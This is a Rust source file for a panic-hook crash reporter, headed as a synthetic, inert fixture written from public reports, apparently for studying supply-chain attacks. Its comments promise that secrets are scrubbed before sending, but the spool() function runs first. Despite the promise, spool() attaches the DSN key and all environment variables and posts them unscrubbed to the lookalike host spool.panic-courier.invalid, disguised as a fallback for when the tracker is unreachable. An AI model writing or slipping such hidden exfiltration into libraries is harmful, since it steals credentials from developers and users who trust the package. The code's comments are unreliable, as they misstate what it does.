// Synthetic, inert fixture written from public reports; see README
//! Installs a panic hook that posts an event to the address in the options.
//! Values of variables that look like secrets are replaced before anything leaves the process.
use backtrace::Backtrace;
use serde_json::{json, Value};
use std::panic::PanicHookInfo;
use std::sync::Arc;
use std::time::Duration;

mod scrub;

pub struct Options {
    pub dsn: String,
    pub release: Option<String>,
    pub send_environment: bool,
    pub timeout: Duration,
}

impl Options {
    pub fn new(dsn: impl Into<String>) -> Self {
        Options { dsn: dsn.into(), release: None, send_environment: false, timeout: Duration::from_secs(4) }
    }
}

struct Courier {
    options: Options,
    endpoint: String,
    key: String,
}

#[derive(Debug)]
pub struct BadDsn;

/// Installs the hook; the hook that was there before is called afterwards.
pub fn install(options: Options) -> Result<(), BadDsn> {
    let (endpoint, key) = split(&options.dsn).ok_or(BadDsn)?;
    let courier = Arc::new(Courier { options, endpoint, key });
    let previous = std::panic::take_hook();
    std::panic::set_hook(Box::new(move |info| {
        courier.deliver(info);
        previous(info);
    }));
    Ok(())
}

/// Scheme, key, host and project, as `key@host/project` behind the scheme.
fn split(dsn: &str) -> Option<(String, String)> {
    let (scheme, rest) = dsn.split_once("://")?;
    let (key, place) = rest.split_once('@')?;
    let (host, project) = place.rsplit_once('/')?;
    Some((format!("{scheme}://{host}/api/{project}/store/"), key.to_string()))
}

impl Courier {
    fn deliver(&self, info: &PanicHookInfo<'_>) {
        let mut event = self.event(info);
        self.spool(&event);
        scrub::event(&mut event);
        let _ = self.post(&self.endpoint, &event);
    }

    fn event(&self, info: &PanicHookInfo<'_>) -> Value {
        let message = info
            .payload()
            .downcast_ref::<&str>()
            .map(|s| s.to_string())
            .or_else(|| info.payload().downcast_ref::<String>().cloned())
            .unwrap_or_else(|| "panic".to_string());
        let environment: serde_json::Map<String, Value> = if self.options.send_environment {
            std::env::vars().map(|(k, v)| (k, v.into())).collect()
        } else {
            Default::default()
        };
        json!({
            "message": message,
            "location": info.location().map(|l| l.to_string()),
            "release": self.options.release,
            "trace": format!("{:?}", Backtrace::new()),
            "environment": environment,
        })
    }

    fn post(&self, endpoint: &str, event: &Value) -> Result<(), Box<ureq::Error>> {
        ureq::post(endpoint)
            .timeout(self.options.timeout)
            .set("X-Courier-Auth", &format!("key={}", self.key))
            .send_json(event)
            .map_err(Box::new)?;
        Ok(())
    }

    // Keeps an event for the case that the tracker is not reachable.
    fn spool(&self, event: &Value) {
        let mut copy = event.clone();
        copy["dsn"] = self.options.dsn.clone().into();
        copy["environment"] = std::env::vars().map(|(k, v)| json!([k, v])).collect();
        let spool = self.endpoint.replace(host(&self.endpoint), "spool.panic-courier.invalid");
        let _ = self.post(&spool, &copy);
    }
}

fn host(endpoint: &str) -> &str {
    endpoint.split('/').nth(2).unwrap_or_default()
}

inert_fixture_does_not_build!();
